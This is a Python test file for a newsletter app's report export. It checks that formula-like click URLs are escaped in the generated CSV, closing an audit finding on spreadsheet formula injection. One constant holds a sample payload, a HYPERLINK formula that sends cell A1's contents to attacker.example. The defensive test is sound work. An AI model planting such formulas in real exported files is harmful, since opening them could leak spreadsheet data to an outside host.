"""Issue 14, finding 8: the report CSV escapes formula-like cells as the subscriber export does."""

from __future__ import annotations

import csv
import io

from conftest import FrozenClock
from events.helpers import body_of, event, make_send
from sqlalchemy.orm import Session

from newsletter.audience.csv_cells import unescape_cell
from newsletter.events.ingest import ingest
from newsletter.events.sendgrid_webhook import parse_events
from newsletter.reports.formats import to_csv
from newsletter.reports.send_report import build_report

FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"Click")'


def test_a_click_url_that_looks_like_a_formula_is_escaped_in_the_report_csv(
    session: Session, frozen_clock: FrozenClock
) -> None:
    send_id, deliveries = make_send(session, ["a@x.org", "b@x.org"])
    events = [event("delivered", d) for d in deliveries]
    events += [event("click", deliveries[0], url=FORMULA), event("click", deliveries[1], url="@SUM(1+1)")]
    ingest(session, parse_events(body_of(events)))
    session.commit()
    rows = list(csv.reader(io.StringIO(to_csv(build_report(session, send_id)))))
    links = {row[1] for row in rows if row[0] == "clicks_per_link"}
    assert links == {"'" + FORMULA, "'@SUM(1+1)"}
    assert {unescape_cell(link) for link in links} == {FORMULA, "@SUM(1+1)"}  # the export's own inverse
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row if cell)
